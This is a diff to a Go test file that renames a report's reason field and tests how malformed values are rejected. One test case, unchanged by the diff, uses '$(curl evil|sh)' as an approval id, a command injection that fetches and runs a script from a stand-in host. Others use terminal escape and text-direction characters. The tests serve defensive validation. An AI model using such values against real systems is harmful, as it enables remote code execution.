@@ -9,6 +9,8 @@ import (
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+
+	"github.com/pergola-dev/pergola/change"
 )
 
 // TestReport: what a gardenlet says is read as it was written, costs a write only when it is another one, and stays small.
@@ -27,7 +29,7 @@ func TestReport(t *testing.T) {
 		}
 		return differs
 	}
-	small := Report{Digest: strings.Repeat("ab", 32), Converging: []string{"Seed one"}, Held: []Held{{Owner: "Seed one", Cluster: "one", Object: "ConfigMap a/b", Reason: "because", Approval: "0123456789ab-2"}}}
+	small := Report{Digest: strings.Repeat("ab", 32), Converging: []string{"Seed one"}, Held: []Held{{Owner: "Seed one", Cluster: "one", Object: "ConfigMap a/b", Why: change.Reason{Detail: "because"}, Approval: "0123456789ab-2"}}}
 	assert.True(t, write(small))
 	assert.False(t, write(small))
 	assert.Equal(t, small, *ReadReport(seed))
@@ -38,7 +40,7 @@ func TestReport(t *testing.T) {
 	for i := range 1000 {
 		large.Converging = append(large.Converging, fmt.Sprintf("Shoot garden-a/%d", i))
 		large.Failing = append(large.Failing, fmt.Sprintf("Shoot garden-a/%d", i))
-		large.Held = append(large.Held, Held{Owner: "Seed one", Cluster: "one", Object: fmt.Sprintf("ConfigMap %s/%d", strings.Repeat("n", 63), i), Reason: strings.Repeat("ü", 2000)})
+		large.Held = append(large.Held, Held{Owner: "Seed one", Cluster: "one", Object: fmt.Sprintf("ConfigMap %s/%d", strings.Repeat("n", 63), i), Why: change.Reason{Detail: strings.Repeat("ü", 2000)}})
 	}
 	assert.True(t, write(large))
 	assert.False(t, write(large), "it is the same as far as it goes")
@@ -74,7 +76,7 @@ func TestUnreadReport(t *testing.T) {
 }
 
 func TestReportOfAnotherForm(t *testing.T) {
-	good := Held{Owner: "Shoot garden-a/b", Cluster: "one", Object: "ClusterRole system:node", Reason: "because of „it“", Approval: "0123456789ab", Together: "ba9876543210-12"}
+	good := Held{Owner: "Shoot garden-a/b", Cluster: "one", Object: "ClusterRole system:node", Why: change.Reason{Detail: "because of „it“"}, Approval: "0123456789ab", Together: "ba9876543210-12"}
 	for name, change := range map[string]func(*Held){
 		"owner":                   func(h *Held) { h.Owner = "nobody" },
 		"cluster":                 func(h *Held) { h.Cluster = "" },
@@ -86,9 +88,9 @@ func TestReportOfAnotherForm(t *testing.T) {
 		"a command as its id":     func(h *Held) { h.Approval = "$(curl evil|sh)" },
 		"an id of a seed":         func(h *Held) { h.Approval = "one/0123456789ab" },
 		"more ids":                func(h *Held) { h.Together = "0123456789ab 0123456789ac" },
-		"a reason with an escape": func(h *Held) { h.Reason = "why\x1b[2J" },
-		"a reason of two lines":   func(h *Held) { h.Reason = "why\nHeld" },
-		"a reason turned around":  func(h *Held) { h.Reason = "why\u202e" },
+		"a reason with an escape": func(h *Held) { h.Why.Detail = "why\x1b[2J" },
+		"a reason of two lines":   func(h *Held) { h.Why.Detail = "why\nHeld" },
+		"a reason turned around":  func(h *Held) { h.Why.Detail = "why\u202e" },
 	} {
 		t.Run(name, func(t *testing.T) {
 			bad := good
@@ -102,13 +104,13 @@ func TestReportOfAnotherForm(t *testing.T) {
 	}
 	seed := &unstructured.Unstructured{Object: map[string]any{}}
 	said := good
-	said.Reason = "it says:\n\tno"
+	said.Why.Detail = "it says:\n\tno"
 	patch, _, err := NoteReport(seed, Report{Held: []Held{said}})
 	require.NoError(t, err)
 	text, _, err := unstructured.NestedString(patch, "metadata", "annotations", AnnotationReport)
 	require.NoError(t, err)
 	seed.SetAnnotations(map[string]string{AnnotationReport: text})
-	assert.Equal(t, "it says:  no", ReadReport(seed).Held[0].Reason)
+	assert.Equal(t, "it says:  no", ReadReport(seed).Held[0].Why.String())
 	_, differs, err := NoteReport(seed, Report{Held: []Held{said}})
 	require.NoError(t, err)
 	assert.False(t, differs)
